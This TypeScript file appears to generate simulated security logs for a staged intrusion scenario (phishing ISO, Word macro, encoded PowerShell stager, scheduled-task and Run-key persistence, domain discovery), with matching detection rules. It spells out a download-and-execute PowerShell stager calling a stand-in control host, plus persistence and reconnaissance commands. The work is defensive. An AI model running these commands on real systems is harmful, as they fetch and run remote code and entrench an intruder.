import { mailReceived } from '../benign/mail.ts'
import { account, hosts, intruders, person } from '../company.ts'
import { squidLine, zeekConnection, zeekDns } from '../formats/network.ts'
import { scriptBlock, taskRegistered } from '../formats/security-log.ts'
import {
  connected,
  fileCreated,
  nameAsked,
  type Process,
  processStarted,
  registrySet,
  webMarkWritten,
} from '../formats/sysmon.ts'
import type { StoryStep } from './step.ts'

export const victim = person('rcastellane')
export const desk = victim.workstation
const user = account(victim)
const profile = `C:\\Users\\${victim.login}`
const shell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'

const downloadUrl = `http://${intruders.downloadHost}/notice/Invoice_88213.iso`
const imagePath = `${profile}\\Downloads\\Invoice_88213.iso`

/** As `powershell -EncodedCommand` wants it. */
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64')
const stager = `$u='https://${intruders.controlHost}/beat';IEX (New-Object Net.WebClient).DownloadString($u)`

const word: Process = {
  image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "E:\\Invoice_88213.docm"',
  user,
}
/** The process through which the intruders act on the workstation. */
export const implant: Process = {
  image: shell,
  commandLine: `powershell.exe -NoP -W Hidden -Enc ${encoded(stager)}`,
  user,
  parent: word,
}

/** A program that the implant starts. */
export const byImplant = (image: string, commandLine: string, integrity: Process['integrity'] = 'High'): Process => ({
  image,
  commandLine,
  user,
  integrity,
  parent: implant,
  folder: `${profile}\\AppData\\Roaming\\`,
})

export const phishing: StoryStep = {
  title: 'A link in a mail',
  account:
    'Ruth Castellane in accounts gets a delivery notice from outside, follows its link and saves a disk image through the proxy.',
  rules: ['Disk image fetched through the proxy', 'Disk image saved from the web'],
  decisive: [],
  records: ({ at, random }) => {
    const browser: Process = {
      image: 'C:\\Program Files\\Browser\\browser.exe',
      commandLine: '"C:\\Program Files\\Browser\\browser.exe"',
      user,
    }
    const download = { name: intruders.downloadHost, ip: intruders.downloadIp }
    return [
      ...mailReceived(
        hosts.mailGateway,
        at(0),
        {
          sender: intruders.sender,
          recipient: victim.mail,
          fromHost: intruders.mailHost,
          fromIp: intruders.mailIp,
          bytes: 18_411,
        },
        random,
      ),
      zeekDns(at(0.4), { fromIp: desk.ip, name: download.name, answers: [download.ip] }),
      nameAsked(desk, at(0.4), browser, download),
      squidLine(at(0.5), {
        fromIp: desk.ip,
        login: victim.login,
        method: 'GET',
        url: downloadUrl,
        toIp: download.ip,
        bytes: 2_883_584,
        type: 'application/x-iso9660-image',
        milliseconds: 2140,
      }),
      fileCreated(desk, at(0.55), browser, imagePath),
      webMarkWritten(desk, at(0.56), browser, { path: imagePath, url: downloadUrl }),
    ]
  },
}

export const execution: StoryStep = {
  title: 'The document runs PowerShell',
  account:
    'The image holds a Word document whose macro starts a hidden PowerShell with an encoded command; it fetches the implant and calls home.',
  rules: [
    'Office program starts a command interpreter',
    'PowerShell started with an encoded command',
    'PowerShell script downloads and runs code',
    'PowerShell connects to an address outside',
  ],
  decisive: ['Office program starts a command interpreter', 'PowerShell script downloads and runs code'],
  records: ({ at }) => {
    const control = { ip: intruders.controlIp, host: intruders.controlHost, port: 443 }
    return [
      processStarted(desk, at(0), word),
      processStarted(desk, at(0.15), implant),
      scriptBlock(desk, at(0.2), { text: stager }),
      zeekDns(at(0.25), { fromIp: desk.ip, name: control.host, answers: [control.ip] }),
      nameAsked(desk, at(0.25), implant, { name: control.host, ip: control.ip }),
      connected(desk, at(0.3), implant, control),
      ...[0.35, 0.55, 0.75, 0.95].map((share) =>
        zeekConnection(at(share), {
          fromIp: desk.ip,
          toIp: control.ip,
          port: 443,
          service: 'ssl',
          sentBytes: 1840,
          receivedBytes: 6120,
          durationSeconds: 2,
        }),
      ),
    ]
  },
}

export const persistence: StoryStep = {
  title: 'Staying',
  account: 'A scheduled task and a Run key start a library in the user’s profile at every logon.',
  rules: [
    'Scheduled task created for a program in a user-writable folder',
    'Scheduled task registered that starts a program from a user-writable folder',
    'Run key points to a user-writable folder',
    'Library in a user-writable folder run through rundll32',
  ],
  decisive: ['Run key points to a user-writable folder'],
  records: ({ at }) => {
    const library = `${profile}\\AppData\\Roaming\\LibSync\\sync.dll`
    const rundll = 'C:\\Windows\\System32\\rundll32.exe'
    const create = byImplant(
      'C:\\Windows\\System32\\schtasks.exe',
      `schtasks /create /tn LibSync /sc onlogon /f /tr "rundll32.exe ${library},Start"`,
    )
    return [
      fileCreated(desk, at(0), implant, library),
      processStarted(desk, at(0.2), create),
      taskRegistered(desk, at(0.25), victim, {
        name: '\\LibSync',
        command: 'rundll32.exe',
        arguments: `${library},Start`,
      }),
      registrySet(desk, at(0.5), implant, {
        path: `HKU\\${victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LibSync`,
        data: `rundll32.exe ${library},Start`,
      }),
      processStarted(desk, at(0.7), byImplant(rundll, `rundll32.exe ${library},Start`, 'Medium')),
    ]
  },
}

export const discovery: StoryStep = {
  title: 'Looking around',
  account: 'The intruders ask who they are, who rules the domain, and which domains trust it.',
  rules: [
    'Own privileges listed with whoami',
    'Members of privileged groups listed',
    'Domain trusts listed with nltest',
  ],
  decisive: [],
  records: ({ at }) => {
    const system = 'C:\\Windows\\System32'
    const commands: readonly (readonly [share: number, image: string, commandLine: string])[] = [
      [0, 'whoami.exe', 'whoami /all'],
      [0.15, 'systeminfo.exe', 'systeminfo'],
      [0.3, 'net.exe', 'net group "Domain Admins" /domain'],
      [0.45, 'net.exe', 'net localgroup administrators'],
      [0.6, 'nltest.exe', 'nltest /domain_trusts /all_trusts'],
      [0.8, 'net.exe', 'net view \\\\lf-fs-01 /all'],
    ]
    return commands.map(([share, image, commandLine]) =>
      processStarted(desk, at(share), byImplant(`${system}\\${image}`, commandLine)),
    )
  },
}
